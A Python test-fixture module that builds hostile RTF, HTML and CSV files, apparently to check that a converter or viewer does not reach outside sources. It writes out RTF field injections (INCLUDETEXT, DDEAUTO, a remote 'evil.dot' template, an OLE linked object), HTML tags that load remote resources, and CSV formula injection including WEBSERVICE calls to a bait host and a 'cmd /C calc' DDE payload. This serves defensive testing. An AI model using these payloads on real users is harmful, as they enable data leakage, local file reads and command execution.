"""Files without a container that lead outside: RTF, web pages, tables as text."""

import struct
from collections.abc import Callable, Mapping
from pathlib import Path

from tests.hostile.bait import Bait


def _link_to(path: Path) -> bytes:
    """An object that stands in another file. Source: [MS-OLEDS] 2.2.2 (LinkedObject)."""
    texts = (b"Word.Document.8\0", bytes(path) + b"\0", b"a\0")
    counted = b"".join(struct.pack("<I", len(text)) + text for text in texts)
    return struct.pack("<2I", 0x501, 1) + counted + struct.pack("<4I", 0, 0, 1, 0)


def rich_text(folder: Path, bait: Bait) -> Path:
    """A template, fields, and a linked object."""
    fields = "".join(
        rf"{{\field{{\*\fldinst {instruction}}}{{\fldrslt old}}}}\par "
        for instruction in (
            f'INCLUDETEXT "{bait.path}"',
            f'INCLUDEPICTURE "{bait.address}/rtf.png" \\\\d',
            f'INCLUDEPICTURE "{bait.path}" \\\\d',
            f'DDEAUTO soffice "{bait.path}" "a"',
        )
    )
    linked = (
        rf"{{\object\objautlink\rsltpict{{\*\objclass Word.Document.8}}{{\*\objdata {_link_to(bait.path).hex()}}}}}"
    )
    path = folder / "a.rtf"
    path.write_text(rf"{{\rtf1\ansi{{\*\template {bait.address}/evil.dot}}{fields}{linked}old}}")
    return path


def web_page(folder: Path, bait: Bait) -> Path:
    """Everything in a page that browsers load."""
    tags = "".join(
        f'<img src="{target}"><iframe src="{target}"></iframe><object data="{target}"></object><embed src="{target}">'
        f'<link rel="stylesheet" href="{target}"><script src="{target}"></script><input type="image" src="{target}">'
        f'<table background="{target}"><tr><td background="{target}">old</td></tr></table>'
        f'<video src="{target}"></video><p style="background: url({target})">old</p>'
        for target in bait.targets
    )
    path = folder / "a.html"
    path.write_text(
        f'<html><head><base href="{bait.address}/"><meta http-equiv="refresh" content="0; url={bait.address}/next">'
        f'<style>@import url("{bait.address}/style.css");</style></head><body background="{bait.file}">'
        f'<img src="relative.png">{tags}</body></html>'
    )
    return path


def table(folder: Path, bait: Bait) -> Path:
    """Formulas in what looks like a table of text."""
    path = folder / "a.csv"
    path.write_text(
        f'"=WEBSERVICE(""{bait.address}/csv"")"\n=WEBSERVICE("{bait.address}/plain")\n'
        f'=DDE("soffice";"{bait.path}";"A1")\n=\'{bait.file}\'#$Sheet1.A1\n=cmd|\' /C calc\'!A0\n'
    )
    return path


PLAIN: Mapping[str, Callable[[Path, Bait], Path]] = {
    "rich text": rich_text,
    "web page": web_page,
    "table": table,
}
